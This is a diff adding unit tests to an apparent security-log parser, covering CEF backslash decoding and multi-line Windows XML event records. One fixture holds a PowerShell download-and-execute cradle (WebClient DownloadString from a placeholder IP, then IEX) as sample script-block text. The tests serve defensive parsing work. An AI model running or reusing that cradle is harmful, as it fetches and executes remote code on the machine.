@@ -259,3 +259,22 @@ test("a CloudTrail log file's Records are its events", () => {
   ] }), 1);
   assert.deepEqual(evs.map((e) => [e.get("eventName"), e.logsource?.product]), [["ConsoleLogin", "aws"], ["GetObject", "aws"]]);
 });
+
+test("CEF: a doubled backslash is one backslash, read once ('\\\\r' in a path or a user name is no carriage return)", () => {
+  const ev = decode(String.raw`CEF:0|Vendor|AV|1.0|1|quarantine|5|duser=ALLIANCE\\r.silva filePath=C:\\Users\\run.exe msg=line one\nline two`);
+  assert.equal(ev.get("duser"), "ALLIANCE\\r.silva");
+  assert.equal(ev.get("filePath"), "C:\\Users\\run.exe");
+  assert.equal(ev.get("msg"), "line one\nline two");
+});
+
+test("reader: a Windows event in XML written over several lines is one record, from its first line to its end tag", async () => {
+  const head = `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-PowerShell'/><EventID>4104</EventID><Channel>Microsoft-Windows-PowerShell/Operational</Channel></System><EventData><Data Name='ScriptBlockText'>$wc = New-Object Net.WebClient`;
+  const text = `${head}\n$s = $wc.DownloadString('http://198.51.100.7/a')\nIEX $s</Data></EventData></Event>\n{"a":1}\n<Event xmlns='x'><System>\n{"b":2}\n`;
+  const recs = await records(text);
+  assert.deepEqual(recs.map((r) => r.line), [1, 4, 5, 6]);
+  const ev = decode(recs[0]!.text);
+  assert.equal(ev.get("ScriptBlockText"), "$wc = New-Object Net.WebClient\n$s = $wc.DownloadString('http://198.51.100.7/a')\nIEX $s");
+  // An event cut short by the next record is a broken record of its own, reported as undecodable.
+  assert.equal(recs[2]!.text, "<Event xmlns='x'><System>");
+  assert.throws(() => decode(recs[2]!.text), /not a Windows event in XML|UndecodableRecord|XML/);
+});
